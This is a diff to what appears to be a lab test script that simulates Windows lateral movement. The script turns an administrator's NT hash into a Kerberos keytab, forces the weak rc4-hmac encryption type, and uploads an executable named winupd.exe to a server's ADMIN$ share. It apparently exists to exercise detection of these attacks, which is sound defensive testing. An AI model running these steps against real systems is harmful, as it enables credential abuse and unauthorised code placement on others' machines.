@@ -17,7 +17,8 @@ file write winupd.exe pe32
 
 run() {
   /usr/bin/python3 -B "$here/py/make_keytab.py" "$(client_file keytab)" "$admin@$realm" "${nt_hash[$admin]}"
-  client kinit -k -t keytab "$admin@$realm"
+  sed 's/\[libdefaults\]/&\n  default_tkt_enctypes = rc4-hmac/' "$lab/$client/etc/krb5.conf" >"$(client_file rc4.conf)"
+  client env KRB5_CONFIG=rc4.conf kinit -k -t keytab "$admin@$realm"
   client smbclient "//$server_name/ADMIN\$" --use-krb5-ccache=ticket -c 'put setup.exe winupd.exe'
   connected 'IPC$' 'ADMIN$'
   wrote 'ADMIN$' winupd.exe setup.exe
